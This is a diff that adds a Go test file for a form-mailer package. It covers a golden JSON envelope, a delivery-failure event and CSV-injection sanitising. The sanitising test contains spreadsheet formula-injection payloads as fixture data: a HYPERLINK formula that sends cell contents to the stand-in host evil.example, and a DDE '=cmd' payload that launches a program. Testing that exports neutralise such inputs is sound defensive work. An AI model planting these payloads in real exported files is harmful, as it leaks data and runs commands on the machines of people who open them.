@@ -0,0 +1,101 @@
+package form_mailer
+
+import (
+	"bytes"
+	"encoding/json"
+	"errors"
+	"os"
+	"testing"
+	"time"
+)
+
+// The envelope is a contract with consumers outside this repo, so its JSON
+// is pinned byte for byte. If this fails, either the change was accidental
+// or it needs a SchemaVersion bump and a new fixture.
+func TestSubmissionGolden(t *testing.T) {
+	cs := &SiteCfg{Key: "acme"}
+	sub := newSubmission(cs, "0b7e2c8a-4f1d-4c53-9a7e-1f2d3c4b5a69", "203.0.113.7", ContactRequest{
+		Name:     "Alice",
+		Email:    "alice@example.com",
+		Message:  "Hello there",
+		Priority: "high",
+		Language: "en",
+		Subject:  "Billing question",
+		Fields:   map[string]any{"company": "Example Ltd", "seats": 25.0},
+	})
+	sub.Meta.ReceivedAt = time.Date(2024, 5, 1, 12, 30, 0, 0, time.UTC)
+	sub.Meta.RequestID = "req-7f3a"
+	if err := sub.attach([]attachment{{Filename: "notes.txt", ContentType: "text/plain", Data: []byte("hi")}}); err != nil {
+		t.Fatalf("attach: %v", err)
+	}
+
+	got, err := json.MarshalIndent(sub, "", "  ")
+	if err != nil {
+		t.Fatalf("marshal: %v", err)
+	}
+	want, err := os.ReadFile("testdata/submission_v1.json")
+	if err != nil {
+		t.Fatalf("read fixture: %v", err)
+	}
+	if !bytes.Equal(got, bytes.TrimSpace(want)) {
+		t.Fatalf("envelope doesn't match testdata/submission_v1.json:\n%s", got)
+	}
+}
+
+func TestSubmissionFailed(t *testing.T) {
+	sub := newSubmission(&SiteCfg{Key: "acme"}, "id", "203.0.113.7", ContactRequest{Email: "alice@example.com"})
+	sub.Attachments = []submissionAttachment{{Filename: "a.txt"}}
+
+	ev := sub.failed(errors.New("connection refused"))
+	if ev.Event != eventDeliveryFailed || ev.Meta.Error != "connection refused" || ev.Attachments != nil {
+		t.Fatalf("unexpected failure event: %+v", ev)
+	}
+	if sub.Event != eventSubmission || sub.Meta.Error != "" || len(sub.Attachments) != 1 {
+		t.Fatalf("failed modified the submission: %+v", sub)
+	}
+}
+
+func TestSubmissionExportedCSVSafe(t *testing.T) {
+	sub := &Submission{
+		Fields: map[string]any{
+			"name":    `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+			"email":   "alice@example.com",
+			"message": "=cmd|' /C calc'!A0",
+			"phone":   "+1 555 0100",
+			"handle":  "@alice",
+			"note":    "-2+3",
+			"tabbed":  "\t=1+1",
+			"plain":   "Hello = world",
+			"count":   float64(-3),
+		},
+		Attachments: []submissionAttachment{{Filename: "=evil.csv"}, {Filename: "cv.pdf"}},
+	}
+
+	if got := sub.exported(&Config{}); got != sub {
+		t.Fatal("expected the submission unchanged with SANITIZE_CSV off")
+	}
+
+	got := sub.exported(&Config{SanitizeCSV: true})
+	want := map[string]any{
+		"name":    `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+		"email":   "alice@example.com",
+		"message": "'=cmd|' /C calc'!A0",
+		"phone":   "'+1 555 0100",
+		"handle":  "'@alice",
+		"note":    "'-2+3",
+		"tabbed":  "'\t=1+1",
+		"plain":   "Hello = world",
+		"count":   float64(-3),
+	}
+	for k, v := range want {
+		if got.Fields[k] != v {
+			t.Errorf("%s = %q, want %q", k, got.Fields[k], v)
+		}
+	}
+	if got.Attachments[0].Filename != "'=evil.csv" || got.Attachments[1].Filename != "cv.pdf" {
+		t.Errorf("attachment names = %q, %q", got.Attachments[0].Filename, got.Attachments[1].Filename)
+	}
+	if sub.Fields["message"] != "=cmd|' /C calc'!A0" || sub.Attachments[0].Filename != "=evil.csv" {
+		t.Fatal("expected the original submission left as is")
+	}
+}